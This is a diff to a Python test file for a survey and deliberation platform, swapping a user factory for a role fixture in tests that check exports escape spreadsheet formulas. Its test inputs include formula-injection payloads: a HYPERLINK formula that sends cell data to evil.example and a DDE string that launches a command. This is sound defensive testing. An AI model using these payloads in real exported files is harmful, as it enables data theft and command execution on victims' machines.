@@ -19,7 +19,7 @@ from deliberation.report.workbook import render_xlsx
 from surveys import exports
 from surveys.datasets import wave_dataset
 from tests.deliberation.report.test_report import report_data
-from tests.factories import ForumGroupFactory, PanelistFactory, SessionFactory, UserFactory
+from tests.factories import ForumGroupFactory, PanelistFactory, SessionFactory
 from tests.surveys.factories import FULL_ANSWERS, WaveFactory, build_every_type, complete_response
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
@@ -62,8 +62,8 @@ def test_a_poll_answer_is_text_in_the_csv_and_xlsx_and_unchanged_in_sav(tmp_path
 
 
 @pytest.mark.django_db(transaction=True)
-def test_room_texts_are_text_in_every_forum_export(client):
-    facilitator = UserFactory(role="facilitator")
+def test_room_texts_are_text_in_every_forum_export(client, user_with_role):
+    facilitator = user_with_role("facilitator")
     seat = PanelistFactory()
     session = SessionFactory(deliberation=seat.deliberation, kind="plenary")
     group = ForumGroupFactory(session=session, facilitator=facilitator, members=[seat.user])
@@ -73,7 +73,7 @@ def test_room_texts_are_text_in_every_forum_export(client):
     room.do_add_recommendation(group_room.pk, facilitator, "@SUM(A1:A9)")
     room.do_open_poll(group_room.pk, facilitator, "+cmd|' /C calc'!A0", ["-2+3", "예"])
     room.do_ask_question(plenary.pk, seat.user, "=HYPERLINK(1)")
-    client.force_login(UserFactory(role="analyst"))
+    client.force_login(user_with_role("analyst"))
     for dataset, column, expected in [
         ("transcript", "text", "'=1+1"),
         ("synthesis", "text", "'@SUM(A1:A9)"),
